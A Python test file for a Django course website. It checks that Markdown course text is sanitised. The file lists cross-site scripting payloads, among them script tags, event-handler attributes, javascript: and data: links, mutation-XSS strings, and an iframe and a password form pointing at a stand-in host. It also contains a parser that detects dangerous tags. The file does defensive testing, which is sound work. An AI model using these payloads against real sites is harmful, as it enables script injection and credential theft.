"""Course text is Markdown; nothing executable in it ever reaches a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.templatetags.coursesite import render_markdown
from tests.factories import AnnouncementFactory, ResourceFactory, SessionFactory

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<body onload=alert(1)>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![x](javascript:alert(1))",
    '<p onclick="alert(1)">x</p>',
    "<object data=evil.swf></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<<script>script>alert(1)<</script>/script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

DANGEROUS_TAGS = {"script", "iframe", "svg", "object", "embed", "form", "style", "math", "body"}


class ActiveContent(HTMLParser):
    """Collects everything in HTML that a browser would execute or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}=")
            if name in ("href", "src") and not re.match(r"^(https?:|mailto:|[^:]*$)", value):
                self.found.append(f"{tag} {name}={value}")


def active_content(html: str) -> list[str]:
    parser = ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_is_neutralised(payload):
    assert active_content(render_markdown(payload)) == []


@given(st.lists(st.sampled_from([*HOSTILE, "**bold**", "text", "\n", "<", ">", '"', "("])))
@settings(max_examples=200, deadline=None)
def test_no_mix_of_hostile_fragments_gets_through(parts):
    assert active_content(render_markdown("".join(parts))) == []


def test_ordinary_markdown_still_renders():
    html = render_markdown("- **Required**: Graduate standing\n- [PyTorch](https://pytorch.org)")
    assert "<strong>Required</strong>" in html
    assert '<a href="https://pytorch.org" rel="noopener noreferrer">PyTorch</a>' in html
    assert "<li>" in html


@pytest.mark.django_db
def test_no_course_page_shows_hostile_text(client, course):
    payload = "\n\n".join(HOSTILE)
    course.overview = course.prerequisites = course.office_hours = payload
    course.save()
    AnnouncementFactory(course=course, body=payload)
    ResourceFactory(course=course, description=payload)
    SessionFactory(course=course, notes=payload)
    for name in ("courses:home", "courses:schedule", "courses:resources"):
        page = client.get(reverse(name, kwargs={"slug": course.slug})).content.decode()
        body = page[page.index('<main id="main"') : page.index("</main>")]
        assert active_content(body) == [], name
